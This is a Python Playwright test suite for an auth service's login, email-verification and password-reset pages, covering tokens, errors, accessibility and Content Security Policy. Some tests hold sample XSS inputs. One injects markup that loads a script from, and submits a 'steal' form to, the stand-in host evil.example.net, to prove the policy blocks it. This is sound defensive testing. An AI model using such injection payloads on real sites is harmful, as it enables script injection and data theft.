"""The pages for the links in mails, and to log in, in headless Chromium."""

import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from playwright.sync_api import Browser, Page, Route, expect

from app.main import create_app
from app.models.mail import Purpose
from tests.browser.conftest import Visit
from tests.conftest import make_settings, running_server
from tests.links import all_tokens, database_of, mint
from tests.people import ADA, BOB, register
from tests.rows import change_user, the_user

LINKS = {
    Purpose.VERIFY_EMAIL: "verify-email",
    Purpose.RESET_PASSWORD: "reset-password",
    Purpose.CONFIRM_EMAIL: "confirm-email",
}
PAGES = ["log-in", *LINKS.values()]
NEW_ADDRESS = "ada.king@example.com"
NEW_PASSWORD = "seven loud geese on ice"
USED = "This link is wrong, was used before, or has expired. Ask for a new one."


@pytest.fixture
def app(sqlite_url: str, monkeypatch: pytest.MonkeyPatch) -> FastAPI:
    """Its mails wait: the links come from `open_link`."""
    monkeypatch.setattr("app.services.courier.Courier.start", lambda _: None)
    return create_app(make_settings(sqlite_url, debug=True))


@pytest.fixture
def client(app: FastAPI) -> TestClient:
    """Beside the browser, with Ada's account."""
    client = TestClient(app)
    assert register(client).status_code == 201
    return client


@pytest.fixture
def account(app: FastAPI) -> Iterator[str]:
    """The address that the pages are under."""
    with running_server(app) as address:
        yield f"{address}/account"


@pytest.fixture
def page(visit: Visit) -> Page:
    return visit.page


def open_link(page: Page, account: str, client: TestClient, purpose: Purpose) -> str:
    """Returns the token."""
    sent_to = NEW_ADDRESS if purpose is Purpose.CONFIRM_EMAIL else None
    token = mint(client, purpose, sent_to=sent_to)
    page.goto(f"{account}/{LINKS[purpose]}#token={token}")
    return token


def log_in(page: Page, account: str, person: dict[str, str] = ADA) -> None:
    page.goto(f"{account}/log-in")
    page.get_by_label("Email address").fill(person["email"])
    page.get_by_label("Password", exact=True).fill(person["password"])
    page.get_by_role("button", name="Log in").click()


def expect_refusal(page: Page, sentence: str | re.Pattern[str]) -> None:
    expect(page.get_by_role("status")).to_have_text(sentence)
    expect(page.get_by_role("status")).to_have_class("refused")


def expect_logged_in(page: Page, email: str = ADA["email"]) -> None:
    expect(page.get_by_text(f"You are logged in as {email}.", exact=True)).to_be_visible()


def choose_password(page: Page, password: str = NEW_PASSWORD) -> None:
    page.get_by_label("New password").fill(password)
    page.get_by_role("button", name="Change my password").click()


def press_the_button(page: Page, purpose: Purpose) -> None:
    if purpose is Purpose.RESET_PASSWORD:
        choose_password(page)
    else:
        page.get_by_role("button").click()


# A link and its token


@pytest.mark.proves("3.4.5", "14.2.1", "14.3.3", "UL-02")
@pytest.mark.parametrize("purpose", LINKS)
def test_the_token_is_nowhere_but_in_the_page(
    account: str, client: TestClient, visit: Visit, purpose: Purpose
) -> None:
    page = visit.page
    token = open_link(page, account, client, purpose)
    expect(page.get_by_role("button")).to_be_visible()
    assert page.url == f"{account}/{LINKS[purpose]}"
    kept = "JSON.stringify([history.state, {...localStorage}, {...sessionStorage}])"
    assert page.evaluate(kept) == "[null,{},{}]"
    assert page.context.cookies() == []
    page.get_by_role("heading").evaluate("element => location.href = 'log-in'")
    page.wait_for_url("**/log-in")
    page.go_back()
    assert page.url == f"{account}/{LINKS[purpose]}"
    # The fragment of a navigation is the browser's own; what is in front of it is sent.
    assert [url for url in visit.requests if token in url.partition("#")[0]] == []


@pytest.mark.proves("3.5.3", "EV-03")
@pytest.mark.parametrize("purpose", LINKS)
def test_opening_a_link_uses_nothing_up(
    account: str, client: TestClient, visit: Visit, purpose: Purpose
) -> None:
    """Some mail scanners run scripts."""
    sent = []
    visit.page.on("request", lambda request: sent.append(request.method))
    token = open_link(visit.page, account, client, purpose)
    visit.page.wait_for_load_state("networkidle")
    visit.page.reload()
    visit.page.goto("about:blank")
    visit.page.goto(f"{account}/{LINKS[purpose]}#token={token}")
    visit.page.wait_for_load_state("networkidle")
    assert set(sent) == {"GET"}
    assert len(all_tokens(client)) == 1
    expect(visit.page.get_by_role("button")).to_be_visible()


def test_the_button_verifies_the_address(account: str, client: TestClient, page: Page) -> None:
    open_link(page, account, client, Purpose.VERIFY_EMAIL)
    assert not the_user(database_of(client), ADA["email"]).email_verified
    page.get_by_role("button", name="Confirm my address").click()
    expect(page.get_by_text("Your address is confirmed.")).to_be_visible()
    assert the_user(database_of(client), ADA["email"]).email_verified
    page.get_by_role("link", name="Log in").click()
    expect(page.get_by_role("heading", name="Log in")).to_be_visible()


def test_the_button_changes_the_address(account: str, client: TestClient, page: Page) -> None:
    open_link(page, account, client, Purpose.CONFIRM_EMAIL)
    page.get_by_role("button", name="Use this address").click()
    expect(page.get_by_text("Your account has its new address.")).to_be_visible()
    assert the_user(database_of(client), NEW_ADDRESS).email_verified


@pytest.mark.parametrize("purpose", LINKS)
def test_a_used_link_is_refused_and_a_new_one_offered(
    account: str, client: TestClient, page: Page, purpose: Purpose
) -> None:
    token = open_link(page, account, client, purpose)
    press_the_button(page, purpose)
    expect(page.locator("section:focus")).to_be_visible()
    page.goto(f"{account}/{LINKS[purpose]}#token={token}")
    press_the_button(page, purpose)
    expect_refusal(page, USED)
    if purpose is Purpose.CONFIRM_EMAIL:
        expect(page.get_by_text("change your address once more")).to_be_visible()
    else:
        expect(page.get_by_role("button", name="Send me a link")).to_be_visible()
        expect(page.get_by_label("Email address")).to_be_focused()
        expect(page.get_by_label("Email address")).to_have_accessible_description(USED)


def test_a_link_that_is_opened_where_the_page_already_is_works(
    account: str, client: TestClient, page: Page
) -> None:
    """Only the fragment changes then, and nothing is loaded."""
    page.goto(f"{account}/verify-email")
    expect(page.get_by_role("button", name="Send me a link")).to_be_visible()
    open_link(page, account, client, Purpose.VERIFY_EMAIL)
    page.get_by_role("button", name="Confirm my address").click()
    expect(page.get_by_text("Your address is confirmed.")).to_be_visible()
    assert page.url == f"{account}/verify-email"


@pytest.mark.parametrize("name", ["verify-email", "reset-password"])
def test_without_a_token_a_link_can_be_asked_for(account: str, page: Page, name: str) -> None:
    for fragment in ("", "#", "#token=", "#token", "#something", "#%"):
        page.goto("about:blank")
        page.goto(f"{account}/{name}{fragment}")
        expect(page.get_by_role("button", name="Send me a link")).to_be_visible()


def test_a_made_up_link_is_refused_in_a_sentence(account: str, page: Page) -> None:
    for token in ("x", "<img src=x onerror=alert(1)>", "%00%ff", "a b", "A" * 200):
        page.goto("about:blank")
        page.goto(f"{account}/verify-email#token={token}")
        page.get_by_role("button", name="Confirm my address").click()
        expect_refusal(page, USED)


# Asking for a link


@pytest.mark.parametrize("email", [ADA["email"], "nobody@example.com"])
@pytest.mark.parametrize(
    ("name", "sentence"),
    [
        ("reset-password", "If there is an account with this address, a mail with a link is on"),
        ("verify-email", "If this address waits to be confirmed, a mail with a link is on its way"),
    ],
)
def test_asking_for_a_link_says_the_same_to_everybody(
    account: str, client: TestClient, page: Page, name: str, sentence: str, email: str
) -> None:
    page.goto(f"{account}/{name}")
    page.get_by_label("Email address").fill(email)
    page.get_by_role("button", name="Send me a link").click()
    expect(page.get_by_text(sentence)).to_be_visible()
    # The keyboard and what a screen reader reads next are there, too.
    expect(page.locator("section:focus")).to_contain_text(sentence)
    expect(page.get_by_role("button")).to_be_hidden()


def test_what_is_no_address_is_told_at_its_field(account: str, page: Page) -> None:
    page.goto(f"{account}/reset-password")
    page.get_by_label("Email address").fill("ada at example")
    page.get_by_role("button", name="Send me a link").click()
    sentence = "Email address: must be an email address, such as ada@example.com."
    expect_refusal(page, sentence)
    expect(page.get_by_label("Email address")).to_be_focused()
    expect(page.get_by_label("Email address")).to_have_attribute("aria-invalid", "true")


# A new password


@pytest.mark.parametrize(
    ("password", "sentence"),
    [
        ("short", "This password has fewer than 15 characters. Several unrelated words make a"),
        ("passwordpassword", "This password is on the list of those that are tried first."),
        ("ada.example.2026!", "This password is made of your name, your address or this"),
    ],
)
def test_a_refused_password_is_explained_and_the_link_stays_good(
    account: str, client: TestClient, page: Page, password: str, sentence: str
) -> None:
    open_link(page, account, client, Purpose.RESET_PASSWORD)
    choose_password(page, password)
    expect_refusal(page, re.compile(re.escape(sentence)))
    field = page.get_by_label("New password")
    expect(field).to_be_focused()
    expect(field).to_have_attribute("aria-invalid", "true")
    expect(field).to_have_accessible_description(re.compile(re.escape(sentence)))
    choose_password(page)
    expect(page.get_by_text("Your password is changed, and every device is logged")).to_be_visible()


def test_an_empty_field_is_named_and_nothing_is_sent(
    account: str, client: TestClient, visit: Visit
) -> None:
    visit.page.goto(f"{account}/log-in")
    visit.page.get_by_label("Email address").fill(ADA["email"])
    visit.page.get_by_label("Password", exact=True).press("Enter")
    expect_refusal(visit.page, "Missing: Password.")
    expect(visit.page.get_by_label("Password", exact=True)).to_be_focused()
    assert [url for url in visit.requests if url.endswith("/login")] == []


def test_a_password_is_hidden_can_be_shown_and_is_sent_hidden(
    account: str, client: TestClient, page: Page
) -> None:
    """OWASP ASVS 5.0, 6.2.6. A text field's content would be remembered by the browser."""
    page.goto(f"{account}/log-in")
    field = page.get_by_label("Password", exact=True)
    expect(field).to_have_attribute("type", "password")
    page.get_by_label("Show the password", exact=True).check()
    expect(field).to_have_attribute("type", "text")
    page.get_by_label("Show the password", exact=True).uncheck()
    expect(field).to_have_attribute("type", "password")
    page.get_by_label("Show the password", exact=True).check()
    field.fill("a wrong one of these")
    page.get_by_role("button", name="Log in").click()
    expect(page.get_by_role("status")).to_have_class("refused")
    expect(field).to_have_attribute("type", "password")
    expect(page.get_by_label("Show the password", exact=True)).not_to_be_checked()


def test_a_long_password_can_be_pasted(account: str, client: TestClient, page: Page) -> None:
    """OWASP ASVS 5.0, 6.2.7: as password managers do it, and whole."""
    password = "  grüße an alle geese " * 40
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    open_link(page, account, client, Purpose.RESET_PASSWORD)
    page.evaluate("text => navigator.clipboard.writeText(text)", password)
    page.get_by_label("New password").press("ControlOrMeta+V")
    expect(page.get_by_label("New password")).to_have_value(password)
    page.get_by_role("button", name="Change my password").click()
    expect(page.get_by_text("Your password is changed")).to_be_visible()
    login = client.post("/api/v1/auth/login", json={"email": ADA["email"], "password": password})
    assert login.status_code == 200


# Who is logged in


def test_somebody_logs_in_sees_it_and_logs_out(
    account: str, client: TestClient, page: Page
) -> None:
    log_in(page, account)
    expect_logged_in(page)
    page.reload()
    expect_logged_in(page)
    page.get_by_role("button", name="Log out").click()
    expect(page.get_by_role("status")).to_have_text("You are logged out.")
    expect(page.get_by_label("Email address")).to_be_focused()
    expect(page.get_by_label("Email address")).to_have_value("")
    page.reload()
    expect(page.get_by_role("button", name="Log in")).to_be_visible()
    assert {cookie["name"] for cookie in page.context.cookies()} == {"auth-device"}


def test_a_wrong_password_is_refused_at_its_field(
    account: str, client: TestClient, page: Page
) -> None:
    log_in(page, account, ADA | {"password": "nine small herons at dawn"})
    expect_refusal(
        page,
        "The email address or the password is wrong, or the account is disabled or not verified.",
    )
    expect(page.get_by_label("Password", exact=True)).to_be_focused()
    expect(page.get_by_label("Email address")).to_have_value(ADA["email"])


def test_who_comes_back_after_the_access_token_has_expired_is_still_logged_in(
    account: str, client: TestClient, page: Page
) -> None:
    log_in(page, account)
    expect(page.get_by_role("button", name="Log out")).to_be_visible()
    page.context.clear_cookies(name="auth-access")
    page.reload()
    expect_logged_in(page)


def test_whose_session_was_ended_elsewhere_is_told(
    account: str, client: TestClient, page: Page
) -> None:
    log_in(page, account)
    expect(page.get_by_role("button", name="Log out")).to_be_visible()
    client.post("/api/v1/auth/login", json=ADA)
    client.delete("/api/v1/users/me/sessions")
    page.reload()
    expect_refusal(page, "This session was ended. Log in again.")
    expect(page.get_by_role("button", name="Log in")).to_be_visible()


def test_who_has_to_choose_a_new_password_does_it_there(
    account: str, client: TestClient, page: Page
) -> None:
    change_user(database_of(client), ADA["email"], must_change_password=True)
    log_in(page, account)
    expect(page.get_by_text("An administrator asks you to choose a new password.")).to_be_visible()
    page.get_by_label("Current password").fill(BOB["password"])
    choose_password(page)
    expect_refusal(page, "The current password is not this one.")
    expect(page.get_by_label("Current password")).to_be_focused()
    page.get_by_label("Current password").fill(ADA["password"])
    choose_password(page)
    said = "Your password is changed. Other devices are logged out."
    expect(page.get_by_role("status")).to_have_text(said)
    expect_logged_in(page)
    page.get_by_role("button", name="Log out").click()
    log_in(page, account, ADA | {"password": NEW_PASSWORD})
    expect_logged_in(page)


def test_who_was_logged_out_meanwhile_logs_in_again_first(
    account: str, client: TestClient, page: Page
) -> None:
    change_user(database_of(client), ADA["email"], must_change_password=True)
    log_in(page, account)
    expect(page.get_by_label("Current password")).to_be_visible()
    page.context.clear_cookies()
    page.get_by_label("Current password").fill(ADA["password"])
    choose_password(page)
    expect_refusal(page, "You are logged out. Log in again.")
    expect(page.get_by_label("Email address")).to_be_focused()


@pytest.mark.proves("3.3.1")
def test_it_works_as_in_production(sqlite_url: str, page: Page) -> None:
    """Browsers take a loopback address for as safe as https."""
    app = create_app(make_settings(sqlite_url))
    register(TestClient(app, base_url="https://testserver"))
    with running_server(app) as address:
        log_in(page, f"{address}/account")
        expect_logged_in(page)
        cookies = {cookie["name"]: cookie["secure"] for cookie in page.context.cookies()}
        assert cookies == dict.fromkeys(("__Host-access", "__Host-refresh", "__Host-device"), True)
        page.get_by_role("button", name="Log out").click()
        expect(page.get_by_role("status")).to_have_text("You are logged out.")


# When it does not go well


def test_too_many_attempts_are_told_with_how_long_to_wait(sqlite_url: str, page: Page) -> None:
    app = create_app(make_settings(sqlite_url, debug=True, login_attempts_per_account=1))
    with running_server(app) as address:
        for _ in range(2):
            log_in(page, f"{address}/account")
            expect(page.get_by_role("status")).to_have_class("refused")
        expect_refusal(page, re.compile(r"Too many attempts\. Try again in \d+ minutes\."))


def problem(status: int, **more: Any) -> dict[str, Any]:
    body = json.dumps({"status": status} | more)
    return {"status": status, "content_type": "application/problem+json", "body": body}


def html(status: int) -> dict[str, Any]:
    return {"status": status, "content_type": "text/html", "body": "<h1>Bad Gateway</h1>"}


WAIT = "Too many attempts. Try again in"
WRONG = "Something went wrong (%s). Try again, and tell us if it stays so."
NOBODY = "The service cannot be reached. Check your connection, and try again."
TEXT = "A page on another <b>origin</b>."


REFUSALS = [
    (problem(429, code="too_many_attempts", retry_after=1), f"{WAIT} 1 second."),
    (problem(429, code="too_many_attempts", retry_after=3540), f"{WAIT} 59 minutes."),
    (html(429), f"{WAIT} a moment."),
    (problem(503, code="busy", detail=TEXT), "The service is busy. Try again in a moment."),
    (problem(500, code="internal_error", detail=TEXT, request_id="3f2a9c51"), WRONG % "3f2a9c51"),
    (html(502), WRONG % 502),
    ({"status": 200, "content_type": "application/json", "body": "{"}, NOBODY),
    (problem(403, code="cross_origin", detail=TEXT), TEXT),
]


def test_each_refusal_is_a_sentence(account: str, page: Page) -> None:
    answers = iter(REFUSALS)
    page.route("**/auth/forgot-password", lambda route: route.fulfill(**next(answers)[0]))
    page.goto(f"{account}/reset-password")
    page.get_by_label("Email address").fill(ADA["email"])
    for _, sentence in REFUSALS:
        page.get_by_role("button", name="Send me a link").click()
        expect_refusal(page, sentence)


def test_without_a_network_the_page_says_so_and_goes_on_later(
    account: str, client: TestClient, page: Page
) -> None:
    open_link(page, account, client, Purpose.RESET_PASSWORD)
    page.context.set_offline(True)
    choose_password(page)
    expect_refusal(page, "The service cannot be reached. Check your connection, and try again.")
    page.context.set_offline(False)
    page.get_by_role("button", name="Change my password").click()
    expect(page.get_by_text("Your password is changed")).to_be_visible()


def test_a_double_click_sends_once(account: str, client: TestClient, visit: Visit) -> None:
    page = visit.page
    held: list[Route] = []
    page.route("**/api/v1/auth/verify-email", lambda route: held.append(route))
    open_link(page, account, client, Purpose.VERIFY_EMAIL)
    button = page.get_by_role("button", name="Confirm my address")
    button.dblclick()
    button.click()
    button.press("Enter")
    expect(page.get_by_role("status")).to_have_text("One moment …")
    expect(page.locator("form:visible")).to_have_attribute("aria-busy", "true")
    (route,) = held
    route.continue_()
    expect(page.get_by_text("Your address is confirmed.")).to_be_visible()
    assert len([url for url in visit.requests if url.endswith("/auth/verify-email")]) == 1


def test_the_pages_work_where_a_proxy_adds_a_path_in_front(
    account: str, client: TestClient, visit: Visit
) -> None:
    page, address = visit.page, account.removesuffix("/account")
    prefix = f"{address}/behind/a/proxy"
    page.route(
        f"{prefix}/**",
        lambda route: route.continue_(url=route.request.url.replace(prefix, address, 1)),
    )
    open_link(page, f"{prefix}/account", client, Purpose.VERIFY_EMAIL)
    assert page.url == f"{prefix}/account/verify-email"
    page.get_by_role("button", name="Confirm my address").click()
    page.get_by_role("link", name="Log in").click()
    log_in(page, f"{prefix}/account")
    expect_logged_in(page)
    assert [url for url in visit.requests if not url.startswith(prefix)] == []


# What the policy stops


@pytest.mark.proves("3.4.6", "HD-04")
def test_no_page_can_be_framed(account: str, visit: Visit) -> None:
    frames = "".join(f'<iframe src="{account}/{name}"></iframe>' for name in PAGES)
    visit.page.set_content(frames)
    visit.page.wait_for_load_state("networkidle")
    framed = [frame.url for frame in visit.page.frames[1:]]
    assert len(framed) == len(PAGES)
    assert all(url.startswith("chrome-error:") for url in framed)
    blocked = [text for text in visit.complaints if "frame-ancestors 'none'" in text]
    assert len(blocked) == len(PAGES)


@pytest.mark.proves("3.4.3")
def test_not_even_the_script_of_a_page_can_make_markup(account: str, page: Page) -> None:
    page.goto(f"{account}/log-in")
    for act in (
        "document.body.innerHTML = '<b>x</b>'",
        "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
        "document.createElement('script').text = 'x'",
        "trustedTypes.createPolicy('mine', {})",
    ):
        attempt = f"() => {{ try {{ {act}; return 'done' }} catch (e) {{ return e.name }} }}"
        assert page.evaluate(attempt) == "TypeError", act


@pytest.mark.proves("3.4.3")
def test_a_hole_in_a_page_would_let_nothing_run_and_nothing_out(account: str, visit: Visit) -> None:
    """As if somebody had got markup into it."""
    page = visit.page

    def with_a_hole(route: Route) -> None:
        answer = route.fetch()
        hole = (
            "<script>document.title = 'taken over'</script>"
            "<img src=x onerror=\"document.title = 'taken over'\">"
            '<script src="https://evil.example.net/x.js"></script>'
            '<base href="https://evil.example.net/">'
            '<form id="steal" action="https://evil.example.net/"><input name="p" value="x"></form>'
        )
        route.fulfill(response=answer, body=answer.text().replace("<main>", f"<main>{hole}"))

    failed: list[tuple[str, str | None]] = []
    page.on("requestfailed", lambda request: failed.append((request.url, request.failure)))
    page.route("**/account/log-in", with_a_hole)
    page.goto(f"{account}/log-in")
    expect(page.get_by_role("button", name="Log in")).to_be_visible()
    assert page.title() == "Log in - FastAPI Auth"
    assert page.evaluate("document.baseURI") == f"{account}/log-in"
    page.evaluate("document.getElementById('steal').submit()")
    page.wait_for_load_state("networkidle")
    # Each of the five is stopped for its own reason.
    for directive in (
        "script-src 'self'",
        "img-src data:",
        "base-uri 'none'",
        "form-action 'none'",
    ):
        assert [text for text in visit.refusals() if directive in text], directive
    assert ("https://evil.example.net/x.js", "csp") in failed
    elsewhere = {url for url in visit.requests if "evil" in url}
    assert elsewhere == {"https://evil.example.net/x.js"}


# Everybody


def every_state(page: Page, account: str, client: TestClient) -> Iterator[str]:
    """Walks through all that these pages can show, a refusal included."""
    for name in PAGES:
        page.goto(f"{account}/{name}")
        expect(page.locator("[data-when]:visible").first).to_be_visible()
        yield name
    for purpose, name in LINKS.items():
        open_link(page, account, client, purpose)
        expect(page.get_by_role("button")).to_be_visible()
        yield f"{name} with a link"
    page.goto(f"{account}/reset-password")
    page.get_by_label("Email address").fill("x" * 200)
    page.get_by_role("button").click()
    expect(page.get_by_role("status")).to_have_class("refused")
    yield "a refusal"
    page.get_by_label("Email address").fill("nobody@example.com")
    page.get_by_role("button").click()
    expect(page.get_by_text("a mail with a link is on its way")).to_be_visible()
    yield "asked"
    long = "a" * 64 + "@" + "long-name." * 17 + "example.com"
    register(client, {"email": long, "password": ADA["password"]})
    for must_change in (False, True):
        change_user(database_of(client), long, must_change_password=must_change)
        log_in(page, account, {"email": long, "password": ADA["password"]})
        expect(page.get_by_role("button", name="Log out")).to_be_visible()
        yield f"logged in, must change: {must_change}"
        page.get_by_role("button", name="Log out").click()
        expect(page.get_by_role("button", name="Log in")).to_be_visible()
        yield "logged out"


@pytest.mark.proves("3.4.3", "3.6.1")
def test_the_browser_has_nothing_to_complain_about(
    account: str, client: TestClient, visit: Visit
) -> None:
    for _ in every_state(visit.page, account, client):
        pass
    # Chromium reports a 401 or a 422 that a script asked for as a resource that failed to load.
    unexpected = [text for text in visit.complaints if "Failed to load resource" not in text]
    assert unexpected == []
    origin = account.removesuffix("/account")
    assert [url for url in visit.requests if not url.startswith((origin, "data:,"))] == []


def test_a_phone_of_320_pixels_shows_everything_without_scrolling_sideways(
    account: str, client: TestClient, page: Page
) -> None:
    page.set_viewport_size({"width": 320, "height": 568})
    for state in every_state(page, account, client):
        assert page.evaluate("document.documentElement.scrollWidth") == 320, state
        for target in page.locator("button:visible, input:visible, label.choice:visible").all():
            box = target.bounding_box()
            assert box, state
            assert box["x"] >= 0
            assert box["x"] + box["width"] <= 320
            is_box = target.get_attribute("type") == "checkbox"  # its label is the target
            assert box["height"] >= (20 if is_box else 44), state


# Relative luminance and contrast as in WCAG 2.2, of every text and border as it is painted.
CONTRASTS = """() => {
  const channel = (value) => value <= 0.04045 ? value / 12.92 : ((value + 0.055) / 1.055) ** 2.4;
  const luminance = ([r, g, b]) =>
    0.2126 * channel(r / 255) + 0.7152 * channel(g / 255) + 0.0722 * channel(b / 255);
  const read = (color) => color.match(/[\\d.]+/g).map(Number);
  const behind = (element) => {
    for (let at = element; at; at = at.parentElement) {
      const color = read(getComputedStyle(at).backgroundColor);
      if (color.length === 3 || color[3] === 1) return color;
    }
    throw new Error("no background");
  };
  const contrast = (one, other) => {
    const [dark, light] = [luminance(one), luminance(other)].sort((a, b) => a - b);
    return (light + 0.05) / (dark + 0.05);
  };
  const found = [];
  for (const element of document.body.querySelectorAll("*")) {
    if (!element.checkVisibility() || element.type === "checkbox") continue;
    const style = getComputedStyle(element);
    const name = `${element.tagName} ${element.className} ${element.textContent.trim()}`;
    const own = [...element.childNodes].some((node) => node.nodeType === 3 && node.data.trim());
    if (own || element.tagName === "INPUT") {
      found.push([`text of ${name}`, 4.5, contrast(read(style.color), behind(element))]);
    }
    if (element.matches("input, button")) {
      const around = behind(element.parentElement);
      found.push([`border of ${name}`, 3, contrast(read(style.borderTopColor), around)]);
    }
    if (element === document.activeElement && style.outlineStyle !== "none") {
      const around = behind(element.parentElement);
      found.push([`focus of ${name}`, 3, contrast(read(style.outlineColor), around)]);
    }
  }
  return found;
}"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_everything_can_be_read(
    account: str, client: TestClient, page: Page, scheme: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    """WCAG 2.2, 1.4.3 and 1.4.11: 4.5:1 for text, 3:1 for borders and the focus."""
    page.emulate_media(color_scheme=scheme)
    measured: list[tuple[str, float, float]] = []
    for _ in every_state(page, account, client):
        page.keyboard.press("Tab")
        measured += page.evaluate(CONTRASTS)
    assert {what.split()[0] for what, _, _ in measured} == {"text", "border", "focus"}
    assert [found for found in measured if found[2] < found[1]] == []
    dark = page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(18, 20, 24)"
    assert dark == (scheme == "dark")
    with capsys.disabled():
        lowest = {
            kind: min(ratio for what, _, ratio in measured if what.startswith(kind))
            for kind in ("text", "border", "focus")
        }
        print(f"\n{scheme}: lowest contrast", {kind: f"{r:.1f}" for kind, r in lowest.items()})


STRUCTURE = """() => {
  const visible = (selector) =>
    [...document.querySelectorAll(selector)].filter((element) => element.checkVisibility());
  const ids = [...document.querySelectorAll("[id]")].map(({ id }) => id);
  const named = (names) => names.split(" ").every((id) => document.getElementById(id));
  return {
    language: document.documentElement.lang,
    title: document.title,
    headings: visible("h1, h2, h3").map(({ tagName }) => tagName),
    landmarks: visible("main").length,
    doubled: ids.filter((id, index) => ids.indexOf(id) !== index),
    unlabelled: visible("input").filter(({ labels }) => !labels.length).length,
    unnamed: visible("button, a").filter(({ textContent }) => !textContent.trim()).length,
    lost: visible("[aria-describedby]")
      .filter((field) => !named(field.getAttribute("aria-describedby"))).length,
    jumps: visible("[tabindex]").filter(({ tabIndex }) => tabIndex > 0).length,
    status: document.querySelectorAll("[role=status]:not([hidden])").length,
  };
}"""


def test_screen_readers_find_their_way(account: str, client: TestClient, page: Page) -> None:
    for state in every_state(page, account, client):
        found = page.evaluate(STRUCTURE)
        assert found.pop("title").endswith(" - FastAPI Auth")
        assert found.pop("status") == 1
        assert found == {
            "language": "en",
            "headings": ["H1"],
            "landmarks": 1,
            "doubled": [],
            "unlabelled": 0,
            "unnamed": 0,
            "lost": 0,
            "jumps": 0,
        }, state


def test_the_keyboard_goes_from_field_to_field_and_is_seen(
    account: str, client: TestClient, page: Page
) -> None:
    page.goto(f"{account}/log-in")
    expect(page.get_by_role("button", name="Log in")).to_be_visible()
    order = []
    for _ in range(6):
        page.keyboard.press("Tab")
        focused = page.locator(":focus")
        order.append(
            focused.evaluate("it => it.labels?.[0]?.textContent ?? it.textContent").strip()
        )
        assert focused.evaluate("it => getComputedStyle(it).outlineStyle") == "solid"
    assert order == [
        "Email address",
        "Password",
        "Show the password",
        "Log in",
        "Forgot your password?",
        "Send the confirmation mail again",
    ]


def test_without_scripts_a_sentence_says_so_and_no_form_misleads(
    account: str, browser: Browser
) -> None:
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    for name in PAGES:
        page.goto(f"{account}/{name}")
        assert "This page needs JavaScript" in page.content()
        expect(page.locator("noscript")).to_be_visible()
        expect(page.locator("form:visible")).to_have_count(0)
    context.close()
